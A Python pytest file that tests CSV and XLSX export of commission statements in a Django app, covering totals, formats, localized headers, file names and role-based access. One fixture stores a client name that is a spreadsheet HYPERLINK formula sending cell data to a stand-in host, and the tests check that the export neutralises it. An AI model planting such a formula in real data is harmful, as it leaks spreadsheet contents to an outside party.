"""Statements as files (SPEC §8 "Export of statements"): a month's list with its total and one
person's statement with every line, as CSV and XLSX, scoped exactly as the pages (a specialist
their own only, branch staff 403 — 薪酬保密, another branch 404), names made inert, money as
numbers, dates as people read them, readable and distinct file names."""
from __future__ import annotations

import csv
import datetime as dt
import html as html_lib
import io
import re
from decimal import Decimal
from urllib.parse import quote

import pytest
from openpyxl import load_workbook

from branches.models import User
from clients.models import Client
from commissions import services as commission_services
from tests.conftest import in_branch

from .conftest import drain, open_client

pytestmark = pytest.mark.django_db

LIST = "/b/bj/commissions/statements/2026-03/"
MINE = "/b/bj/commissions/statements/2026-03/bj_s1/"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
D = Decimal


@pytest.fixture
def march(api, people):
    """bj 2026-03: 张伟 (bj_s1) opens 甲公司 (30 人, 800.00) and a client whose name is a formula
    (150 人, 1,800.00) and gets a 480.00 申诉调整; "@李娜" (bj_s2) opens 丙公司 (80 人, 1,200.00)."""
    User.objects.filter(pk=people["bj_s1"].pk).update(display_name="张伟")
    User.objects.filter(pk=people["bj_s2"].pk).update(display_name="@李娜")
    first = open_client(api, people["bj_staff"], opened_by="bj_s1", headcount=30, opened_on="2026-03-05")
    second = open_client(api, people["bj_staff"], opened_by="bj_s1", headcount=150, opened_on="2026-03-10",
                         name="乙公司")
    open_client(api, people["bj_staff"], opened_by="bj_s2", headcount=80, name="丙公司")
    with in_branch("bj"):
        Client.objects.filter(pk=second).update(name=HOSTILE)  # typed by someone we do not control
        commission_services.manual_line_post(actor=people["bj_manager"], earner_id=people["bj_s1"].pk,
                                             period="2026-03", amount=D("480.00"), reference="inquiry:1",
                                             event_date=dt.date(2026, 3, 20))
    drain("bj")
    return {"first": first, "second": second}


def _xlsx(response) -> list[tuple]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))


def _sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())  # Excel in China opens it ungarbled
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_months_list_as_xlsx_and_csv_with_a_total_row(client, people, march):
    client.force_login(people["bj_manager"])

    xlsx = client.get(LIST + "?format=xlsx")
    rows = _xlsx(xlsx)

    assert rows == [
        ("姓名", "笔数", "金额(元)", "状态"),
        ("张伟", 3, 3080, "未结算"),  # 800 + 1,800 + 480
        ("'@李娜", 1, 1200, "未结算"),  # a name that would run as a formula is text
        ("合计", 4, 4280, None),
    ]
    sheet = _sheet(xlsx)
    assert sheet["C2"].number_format == sheet["C4"].number_format == "#,##0.00"
    assert xlsx["Content-Disposition"] == (
        'attachment; filename="statements-bj-2026-03.xlsx"; '
        f"filename*=UTF-8''{quote('提成单-北京分公司-2026年3月')}.xlsx")
    assert _csv(client.get(LIST + "?format=csv")) == [
        ["姓名", "笔数", "金额(元)", "状态"],
        ["张伟", "3", "3,080.00", "未结算"],
        ["'@李娜", "1", "1,200.00", "未结算"],
        ["合计", "4", "4,280.00", ""],
    ]
    # the page offers both files
    html = client.get(LIST).content.decode()
    assert 'href="?format=xlsx"' in html and 'href="?format=csv"' in html


def test_one_persons_statement_with_every_line_and_the_pages_explanations(client, people, march):
    client.force_login(people["bj_manager"])
    page = client.get(MINE).content.decode()
    explanations = re.findall(r'data-testid="explanation">([^<]*)<', page)

    xlsx = client.get(MINE + "?format=xlsx")
    rows = _xlsx(xlsx)

    # the lines in the page's order (by kind, then source)
    assert [r[:7] for r in rows] == [
        ("日期", "项目", "客户", "基数", "比例(%)", "分支浮动(%)", "金额(元)"),
        (dt.datetime(2026, 3, 20), "申诉调整", None, 480, 100, None, 480),
        (dt.datetime(2026, 3, 5), "开户奖励", "甲公司", 800, 100, None, 800),
        (dt.datetime(2026, 3, 10), "开户奖励", "'" + HOSTILE, 1800, 100, None, 1800),
        (None, "合计", None, None, None, None, 3080),
    ]
    # what the page says, a date in it written as the file writes dates (as the 日期 column)
    assert [r[7] for r in rows[1:4]] == [html_lib.unescape(e).replace("2020年1月1日", "2020-01-01") for e in explanations]
    assert rows[1][7] == "申诉调整:480.00 元,计入本期,原结算行不变。"
    assert rows[2][7] == "开户奖励 800.00 = 800.00;甲公司 · 员工30人,≤50人档;规则:开户奖励方案,2020-01-01起。"
    sheet = _sheet(xlsx)
    assert sheet["A2"].number_format == "yyyy-mm-dd" and sheet["G5"].number_format == "#,##0.00"
    assert xlsx["Content-Disposition"] == (
        'attachment; filename="statement-bj-2026-03-bj_s1.xlsx"; '
        f"filename*=UTF-8''{quote('提成单-张伟-2026年3月')}.xlsx")

    lines = _csv(client.get(MINE + "?format=csv"))
    assert [r[:7] for r in lines] == [
        ["日期", "项目", "客户", "基数", "比例(%)", "分支浮动(%)", "金额(元)"],
        ["2026-03-20", "申诉调整", "", "480.00", "100.00", "", "480.00"],
        ["2026-03-05", "开户奖励", "甲公司", "800.00", "100.00", "", "800.00"],
        ["2026-03-10", "开户奖励", "'" + HOSTILE, "1,800.00", "100.00", "", "1,800.00"],
        ["", "合计", "", "", "", "", "3,080.00"],
    ]
    assert [r[7] for r in lines[1:4]] == [r[7] for r in rows[1:4]]
    assert 'href="?format=xlsx"' in page and 'href="?format=csv"' in page


def test_files_follow_the_chosen_language(client, people, march):
    client.force_login(people["bj_manager"])
    client.cookies["django_language"] = "en"

    listing_file = client.get(LIST + "?format=xlsx")
    listing = _xlsx(listing_file)
    mine = client.get(MINE + "?format=csv")

    assert listing[0] == ("Name", "Lines", "Amount (CNY)", "Status") and listing[-1][0] == "Total"
    assert listing[1] == ("张伟", 3, 3080, "Open")
    statement_file = _sheet(client.get(MINE + "?format=xlsx"))
    assert statement_file["A2"].number_format == "yyyy-mm-dd"  # 2026-03-20 in every language
    lines = _csv(mine)
    assert lines[0] == ["Date", "Item", "Client", "Base", "Rate (%)", "Branch adjustment (%)", "Amount (CNY)", "Notes"]
    assert lines[2][:2] == ["2026-03-05", "Opening reward"]
    assert "rules from 2020-01-01" in lines[2][7] and "Jan. 1, 2020" not in lines[2][7]
    assert lines[1][7] == "Adjustment after an inquiry: 480.00 posted here; the original line is unchanged."
    assert mine["Content-Disposition"].endswith(f"filename*=UTF-8''{quote('Statements-张伟-March 2026')}.csv")


def test_files_are_scoped_as_the_pages(client, people, hq_admin, march):
    # a specialist: their own statement, and a list holding only their own row
    client.force_login(people["bj_s2"])
    own = _csv(client.get(LIST + "?format=csv"))
    assert own == [["姓名", "笔数", "金额(元)", "状态"], ["'@李娜", "1", "1,200.00", "未结算"],
                   ["合计", "1", "1,200.00", ""]]
    assert client.get(MINE + "?format=xlsx").status_code == 404  # a colleague's: missing, like the page
    assert client.get(MINE + "?format=csv").status_code == 404
    assert client.get("/b/bj/commissions/statements/2026-03/bj_s2/?format=xlsx").status_code == 200
    # branch staff record the events but see no pay (薪酬保密)
    client.force_login(people["bj_staff"])
    for url in (LIST, MINE):
        assert client.get(url + "?format=xlsx").status_code == 403
        assert client.get(url + "?format=csv").status_code == 403
    # another branch's manager and a client contact: nothing here
    for name in ("sh_manager", "bj_contact"):
        client.force_login(people[name])
        for url in (LIST, MINE):
            assert client.get(url + "?format=xlsx").status_code == 404, (name, url)
    # HQ reads every statement
    client.force_login(hq_admin)
    assert len(_xlsx(client.get(LIST + "?format=xlsx"))) == 4
    assert _xlsx(client.get(MINE + "?format=xlsx"))[-1][-2] == 3080
